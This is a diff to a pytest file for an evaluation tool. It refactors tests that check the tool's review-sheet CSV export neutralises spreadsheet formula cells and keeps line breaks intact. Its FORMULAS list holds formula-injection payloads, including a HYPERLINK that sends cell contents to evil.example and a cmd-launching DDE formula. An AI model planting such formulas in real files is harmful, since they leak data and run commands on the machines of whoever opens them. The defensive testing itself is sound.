@@ -146,8 +146,8 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C c
             "\t=1+1", "\r=1+1"]
 
 
-@pytest.mark.parametrize("answer", FORMULAS)
-def test_review_export_neutralises_cells_a_spreadsheet_would_run(eval_release, tmp_path, answer):
+def run_and_export(eval_release, tmp_path, answer: str):
+    """A one-dialogue run whose model answers ``answer`` everywhere, and its exported review sheet's rows."""
     out = tmp_path / "evals"
     with ScriptedServer(lambda body: answer) as srv:
         result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
@@ -158,7 +158,12 @@ def test_review_export_neutralises_cells_a_spreadsheet_would_run(eval_release, t
     sheet = tmp_path / "sheet.csv"
     assert invoke("eval", "review", "export", run, "-o", sheet).exit_code == 0
     with open(sheet, newline="", encoding="utf-8") as fh:
-        rows = list(csv.DictReader(fh))
+        return run, list(csv.DictReader(fh))
+
+
+@pytest.mark.parametrize("answer", FORMULAS)
+def test_review_export_neutralises_cells_a_spreadsheet_would_run(eval_release, tmp_path, answer):
+    run, rows = run_and_export(eval_release, tmp_path, answer)
     assert rows and all(row["answer"] == "'" + answer.strip() or row["answer"] == "'" + answer for row in rows)
     cells = [cell for row in rows for cell in row.values()]
     assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
@@ -169,17 +174,8 @@ def test_review_export_neutralises_cells_a_spreadsheet_would_run(eval_release, t
 @pytest.mark.parametrize("answer", ["Roses\rtulips", "Roses\u2028tulips", "Roses\x85tulips", "Roses\x1etulips",
                                     "a \"quoted\", answer\non two lines"])
 def test_answers_with_line_breaks_of_any_kind_survive_the_sheet(eval_release, tmp_path, answer):
-    out = tmp_path / "evals"
-    with ScriptedServer(lambda body: answer) as srv:
-        result = invoke("eval", "run", eval_release, "--revision", "v0.1.0", "--backend", "openai", "--base-url",
-                        srv.url, "--model", "m", "--name", "m", "--judge", "none", "--configs", "default", "--limit",
-                        "1", "-o", out, "--quiet")
-    assert result.exit_code == 0, result.output
-    run = out / "mmrc-v0.1.0" / "m"
+    run, rows = run_and_export(eval_release, tmp_path, answer)
     sheet = tmp_path / "sheet.csv"
-    assert invoke("eval", "review", "export", run, "-o", sheet).exit_code == 0
-    with open(sheet, newline="", encoding="utf-8") as fh:
-        rows = list(csv.DictReader(fh))
     assert len(rows) == 3 and {row["answer"] for row in rows} == {answer}
     for row in rows:
         row["human_score"], row["annotator"] = "3", "ann-1"
